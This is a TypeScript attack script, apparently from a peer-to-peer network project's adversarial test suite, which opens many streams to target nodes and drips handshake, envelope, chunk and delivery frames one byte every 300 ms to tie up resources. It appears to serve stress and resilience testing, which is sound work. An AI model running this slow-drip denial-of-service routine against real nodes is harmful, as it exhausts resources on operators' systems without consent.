/** Begins frames and goes on a byte at a time. */
import { randomBytes } from 'node:crypto'
import { setTimeout as delay } from 'node:timers/promises'
import { attackArgs } from '../support/attack-args.ts'
import { Attacker } from '../support/attacker.ts'
import {
  chunk,
  delivery,
  envelope,
  HANDSHAKE,
  hello,
  members,
  MODEL,
  offer,
  PROXY,
  wrapper
} from '../support/protocols.ts'
import type { Target } from '../support/attacker.ts'
import type { Stream } from '@libp2p/interface'

const BYTE_MS = 300
const CHUNK = 65_536
/** Streams at once, of those of which a node bears a few. */
const MANY = 12

const { targets, kind } = attackArgs()

const kinds: Record<string, (attacker: Attacker, target: Target) => Promise<void>> = {
  hello: async (attacker, target) => {
    await Promise.allSettled(
      Array.from({ length: MANY }, async () => {
        const stream = await attacker.open(target, HANDSHAKE)

        attacker.offend(target)
        await drip(stream, hello())
      })
    )
  },
  envelope: async (attacker, target) => {
    await drip(
      await attacker.messages(target),
      envelope({ wrapper: wrapper(attacker.peerId, members.alive('x'.repeat(1_000))), seqno: 1n })
    )
  },
  chunk: async (attacker, target) => {
    await attacker.link(target)
    await Promise.allSettled(
      Array.from({ length: MANY }, async () => {
        const stream = await attacker.open(target, MODEL)
        const bytes = randomBytes(CHUNK)

        attacker.offend(target)
        const { bytes: offered } = await offer(attacker.key, {
          origin: attacker.peerId,
          chunks: [bytes],
          chunkSize: CHUNK
        })

        stream.send(offered)
        await drip(stream, chunk(0, bytes))
      })
    )
  },
  delivery: async (attacker, target) => {
    await attacker.link(target)
    const bytes = delivery(attacker.peerId, {
      wrapper: wrapper(attacker.peerId, members.alive('x'.repeat(1_000))),
      seqno: 1n
    })

    await Promise.allSettled(
      Array.from({ length: MANY }, async () => {
        const stream = await attacker.open(target, PROXY)

        attacker.offend(target)
        await drip(stream, bytes)
      })
    )
  }
}

for (const name of String(kind).split(' ')) {
  const attacker = await Attacker.create()

  for (const target of targets) {
    void attacker.insist(target, async () => kinds[name]?.(attacker, target))
  }
}

/** Until it is sent, or the stream is over. */
async function drip(stream: Stream, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.byteLength; at++) {
    stream.send(bytes.subarray(at, at + 1))
    await delay(BYTE_MS)
  }
}
